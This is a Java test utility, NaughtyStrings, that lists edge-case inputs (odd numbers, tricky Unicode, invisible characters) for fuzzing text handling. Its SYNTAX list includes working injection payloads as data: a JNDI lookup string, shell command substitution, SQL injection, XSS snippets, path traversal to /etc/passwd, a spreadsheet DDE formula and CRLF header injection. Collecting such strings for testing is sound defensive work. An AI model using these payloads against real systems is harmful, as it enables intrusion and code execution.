package org.utmost.testing;

import java.util.ArrayList;
import java.util.List;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Texts that programs have stumbled over: valid Unicode, but for what {@link #unpaired} has, and without U+0000. */
public final class NaughtyStrings {
    private static final List<String> WORDS = List.of(
            "undefined",
            "null",
            "NULL",
            "(null)",
            "nil",
            "None",
            "true",
            "False",
            "NaN",
            "Infinity",
            "-Infinity",
            "0",
            "-0",
            "00",
            "1e309",
            "-1",
            "0x0",
            "1/0",
            "1.",
            "1,000",
            "9007199254740993",
            "9223372036854775808",
            "２３",
            "٤٢",
            "__proto__",
            "constructor",
            "toString",
            "hasOwnProperty",
            "[object Object]",
            "undefined undefined");

    private static final List<String> SYNTAX = List.of(
            "\\",
            "\\\\",
            "\\u0041",
            "\\x00",
            "\\\"",
            "\"",
            "'",
            "''",
            "`",
            "%",
            "%%",
            "_",
            "%00",
            "%s%n",
            "%2525",
            "{0}",
            "{username}",
            "{{7*7}}",
            "${jndi:ldap://x/a}",
            "$(id)",
            "`id`",
            "'; DROP TABLE users; --",
            "' OR '1'='1",
            "\\'; --",
            "*/ /*",
            "../../etc/passwd",
            "C:\\con",
            "=1+1",
            "=cmd|' /C calc'!A0",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "]]>",
            "<!--",
            "&amp;&#0;",
            "x\r\nSet-Cookie: a=b",
            "x\n\n\ny",
            "\ttab\t",
            "```",
            "[[[[](((",
            "> > > >",
            "|a|b|\n|-|-|",
            "***___~~~",
            "~~~",
            "@all @here @channel",
            "#\u200b#",
            "~town-square~",
            "/me",
            "//",
            ";",
            ",",
            "?a=b&c=d",
            "+",
            "&",
            "#");

    private static final List<String> LETTERS = List.of(
            "é",
            "e\u0301",
            "ﬁ ﬃ",
            "ſ ß ẞ",
            "İ I ı i",
            "Å Å",
            "Ω Ω",
            "ガ カ\u3099",
            "ﾊﾟ パ",
            "각 \u1100\u1161\u11a8",
            "𠜎𠜱𠝹",
            "𝐓𝐡𝐞 𝕋𝕙𝕖 𝓣𝓱𝓮",
            "ＡＢＣ",
            "⁰⁴⁵ ₀₁₂ ⅛",
            "שלום abc مرحبا",
            "﷽",
            "ɐuƃɐɯ",
            "Z" + "\u0300\u0323\u0489".repeat(150),
            "ด" + "\u0e49\u0e47".repeat(300),
            "👩‍👩‍👧‍👦",
            "👩🏽‍🚀",
            "🏴\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f",
            "🇺🇸🇷🇺🇸🇦",
            "0️⃣ ❤️ ❤︎",
            "🏳️‍🌈");

    private NaughtyStrings() {}

    /** All of them. */
    public static List<String> all() {
        return Stream.of(WORDS.stream(), SYNTAX.stream(), LETTERS.stream(), scripts(), single())
                .flatMap(each -> each)
                .distinct()
                .toList();
    }

    /** JSON texts with halves of surrogate pairs, as only escapes can write them. */
    public static List<String> unpaired() {
        return List.of(
                "\"\\ud800\"", "\"a\\udc00b\"", "\"\\ud83d\"", "\"\\ude00\\ud83d\"", "\"\\ud83d\\ud83d\\ude00\"");
    }

    /** What a failure says of a text. */
    public static String spelled(String text) {
        return text.codePoints()
                .limit(12)
                .mapToObj(c -> c > 0x20 && c < 0x7f ? Character.toString(c) : "U+%04X".formatted(c))
                .collect(Collectors.joining(" "));
    }

    /** Some letters of each script. */
    private static Stream<String> scripts() {
        TreeMap<Character.UnicodeScript, StringBuilder> byScript = new TreeMap<>();
        for (int c = 0; c <= Character.MAX_CODE_POINT; c++) {
            if (Character.isLetter(c)) {
                StringBuilder some = byScript.computeIfAbsent(Character.UnicodeScript.of(c), s -> new StringBuilder());
                if (some.length() < 8) {
                    some.appendCodePoint(c);
                }
            }
        }
        return byScript.values().stream().map(StringBuilder::toString);
    }

    /** Characters that nobody sees, nobody may use or nobody has assigned, each between two letters. */
    private static Stream<String> single() {
        List<Integer> all = new ArrayList<>();
        IntStream.concat(IntStream.rangeClosed(1, 0x1f), IntStream.rangeClosed(0x7f, 0xa0))
                .forEach(all::add);
        IntStream.rangeClosed(0x2000, 0x200f).forEach(all::add);
        IntStream.rangeClosed(0x2028, 0x202f).forEach(all::add);
        IntStream.rangeClosed(0x205f, 0x206f).forEach(all::add);
        all.addAll(List.of(0xad, 0x34f, 0x378, 0x61c, 0x115f, 0x1680, 0x180e, 0x2fe0, 0x3000, 0x3164, 0xfe0e, 0xfe0f));
        all.addAll(List.of(0xe000, 0xf8ff, 0xfdd0, 0xfdef, 0xfeff, 0xfff9, 0xfffc, 0xfffd, 0xfffe, 0xffff));
        all.addAll(List.of(0x1d173, 0x1fffe, 0xe0001, 0xe0020, 0xe0080, 0xe0100, 0xf0000, 0x10fffd, 0x10ffff));
        return all.stream().map(c -> "a" + Character.toString(c) + "b");
    }
}
